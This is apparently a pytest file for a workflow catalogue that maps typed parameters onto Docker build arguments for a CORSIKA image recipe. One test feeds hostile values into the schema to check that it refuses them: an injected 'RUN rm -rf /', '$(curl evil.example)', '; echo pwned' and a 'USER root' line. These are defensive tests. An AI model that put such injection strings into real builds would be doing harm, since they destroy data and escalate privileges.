"""Image recipes in the catalogue: loading, build arguments from typed parameters, hostile input."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from gridgate.workflows import (
    InvalidParametersError,
    WorkflowCatalogue,
    WorkflowDefinitionError,
    validate_parameters,
)
from gridgate.workflows.images import build_arguments, image_request


def _corsika() -> tuple[WorkflowCatalogue, object]:
    catalogue = WorkflowCatalogue.shipped()
    return catalogue, catalogue.get("concordia-corsika", "2.0.0")


def test_the_corsika_recipe_carries_its_dockerfile_and_the_standin() -> None:
    catalogue, _ = _corsika()
    recipe = catalogue.recipe("concordia-corsika", "2.0.0")
    assert recipe is not None and recipe.digest.startswith("sha256:")
    assert b"FROM ${BASE_IMAGE}" in recipe.files["Dockerfile"]
    assert b"does NOT contain CORSIKA" in recipe.files["NOTICE"]
    assert "python/gridgate/workflows/standins/corsika.py" in recipe.files
    # Parent packages are empty: the image needs no other gridgate code.
    assert recipe.files["python/gridgate/workflows/__init__.py"] == b""


def test_build_arguments_come_from_typed_parameters() -> None:
    catalogue = WorkflowCatalogue.shipped()
    definition = catalogue.get("concordia-corsika", "2.0.0")
    assert definition.container is not None
    parameters = validate_parameters(
        definition,
        {"corsika_version": "77410", "high_energy_model": "EPOS-LHC", "thinning": "true"},
    )
    assert build_arguments(definition.container, parameters) == {
        "CHERENKOV": "true",
        "CORSIKA_VERSION": "77410",
        "CURVED": "false",
        "HE_MODEL": "EPOS-LHC",
        "LE_MODEL": "URQMD",
        "THINNING": "true",
    }
    recipe = catalogue.recipe(definition.id, definition.version)
    assert recipe is not None
    request = image_request(definition.container, recipe, parameters)
    assert request.digest is None and request.recipe_digest == recipe.digest
    named = image_request(
        definition.container, recipe, {**parameters, "image_digest": "sha256:" + "a" * 64}
    )
    assert named.digest == "sha256:" + "a" * 64


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("corsika_version", "77550\nRUN rm -rf /"),
        ("corsika_version", "77550 --build-arg X=1"),
        ("high_energy_model", "$(curl evil.example)"),
        ("low_energy_model", "URQMD; echo pwned"),
        ("thinning", "true\nUSER root"),
        ("image_digest", "sha256:abc"),
        ("image_digest", "evil.example/x@sha256:" + "a" * 64),
    ],
)
def test_hostile_build_arguments_are_refused_by_the_schema(name: str, value: str) -> None:
    definition = WorkflowCatalogue.shipped().get("concordia-corsika", "2.0.0")
    with pytest.raises(InvalidParametersError) as refused:
        validate_parameters(definition, {name: value})
    assert [error["field"] for error in refused.value.errors] == [name]


def _definition_with(tmp_path: Path, build_args: list[dict[str, str]], prop: dict) -> Path:
    source = WorkflowCatalogue.shipped().get("hello-world").model_dump(mode="json")
    source["parameters"]["properties"]["flavour"] = {
        "title": "Flavour",
        "description": "A build option.",
        **prop,
    }
    source["container"] = {"recipe": "img", "repository": "x/y", "build_args": build_args}
    folder = tmp_path / source["id"]
    (folder / "img").mkdir(parents=True)
    (folder / "img" / "Dockerfile").write_text("FROM scratch\n")
    (folder / f"{source['version']}.yaml").write_text(yaml.safe_dump(source))
    return tmp_path


@pytest.mark.parametrize(
    "prop",
    [
        {"type": "string", "default": "x"},  # free text
        {"type": "string", "enum": ["ok", "not ok"]},  # an enum value with a space
        {"type": "integer", "minimum": 1},  # unbounded
        {"type": "number", "minimum": 0, "maximum": 1},
    ],
)
def test_a_definition_may_not_feed_free_text_into_a_build_argument(
    tmp_path: Path, prop: dict
) -> None:
    root = _definition_with(tmp_path, [{"name": "FLAVOUR", "parameter": "flavour"}], prop)
    with pytest.raises(WorkflowDefinitionError, match="build argument FLAVOUR"):
        WorkflowCatalogue.from_directory(root)


def test_a_safe_definition_loads_with_its_recipe(tmp_path: Path) -> None:
    root = _definition_with(
        tmp_path,
        [{"name": "FLAVOUR", "parameter": "flavour"}],
        {"type": "string", "enum": ["vanilla", "mint"], "default": "mint"},
    )
    catalogue = WorkflowCatalogue.from_directory(root)
    definition = catalogue.latest()[0]
    recipe = catalogue.recipe(definition.id, definition.version)
    assert recipe is not None and recipe.files == {"Dockerfile": b"FROM scratch\n"}
